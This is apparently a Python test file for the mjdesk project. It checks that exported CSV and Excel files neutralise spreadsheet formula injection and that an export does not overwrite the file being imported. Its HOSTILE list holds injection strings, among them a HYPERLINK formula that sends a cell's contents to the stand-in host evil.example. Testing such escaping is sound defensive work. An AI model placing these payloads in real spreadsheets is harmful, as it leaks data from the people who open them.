"""No cell of a file mjdesk writes can run as a formula in a spreadsheet program."""

from __future__ import annotations

import csv
import zipfile
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st

from mjdesk.core.exporting import FORMULA_MARKS, neutralise, write_csv
from mjdesk.core.importing.report import write_annotated_copy, write_report
from mjdesk.core.workspace import Workspace

from support.importing import prepare

HOSTILE = [
    "=1+1@example.org",
    "-ok@example.org",
    "+x@example.org",
    "@x@example.org",
    "\tx@example.org",
    "\rx@example.org",
    '=HYPERLINK("http://evil.example/?"&A1)',
]


@given(st.text())
def test_a_neutralised_cell_never_starts_a_formula(text: str) -> None:
    safe = neutralise(text)
    assert isinstance(safe, str)
    assert not safe.startswith(FORMULA_MARKS)
    assert safe == text or safe == "'" + text  # nothing else changes


def test_numbers_and_plain_text_are_left_alone() -> None:
    assert neutralise(-5) == -5
    assert neutralise("ann@example.org") == "ann@example.org"


def test_write_csv_neutralises_every_cell(tmp_path: Path) -> None:
    out = write_csv(tmp_path / "x.csv", ["=header"], [[cell] for cell in HOSTILE])
    with out.open(encoding="utf-8-sig", newline="") as stream:
        rows = list(csv.reader(stream))
    cells = [row[0] for row in rows]
    assert cells[0] == "'=header"
    assert cells[1:] == ["'" + cell for cell in HOSTILE]


def test_the_import_reports_carry_no_formula(tmp_path: Path) -> None:
    rows = [[cell, "Eve", "", "yes", "2025-01-01", "=2*3"] for cell in HOSTILE]
    with Workspace.open(tmp_path / "ws.sqlite3") as ws:
        _cleaned, plan = prepare(ws, rows)
    report = write_report(plan, tmp_path / "report.csv")
    with report.open(encoding="utf-8-sig", newline="") as stream:
        for row in csv.reader(stream):
            for cell in row:
                assert not cell.startswith(FORMULA_MARKS), row
    for book in (
        write_report(plan, tmp_path / "report.xlsx"),
        write_annotated_copy(plan, tmp_path / "annotated.xlsx"),
    ):
        with zipfile.ZipFile(book) as archive:
            sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
            assert sheets
            for name in sheets:
                assert b"<f>" not in archive.read(name), (book.name, name)


def test_the_same_file_is_recognised_however_it_is_named(tmp_path: Path) -> None:
    import pytest

    from mjdesk.core.exporting import OverwritesSource, is_same_file, refuse_overwriting

    source = tmp_path / "a.csv"
    source.write_text("x")
    (tmp_path / "d").mkdir()
    assert is_same_file(tmp_path / "d" / ".." / "a.csv", source)
    assert not is_same_file(tmp_path / "b.csv", source)  # not there yet: compared by name
    with pytest.raises(OverwritesSource, match="file being imported"):
        refuse_overwriting(tmp_path / "d" / ".." / "a.csv", source)
    refuse_overwriting(tmp_path / "b.csv", source)
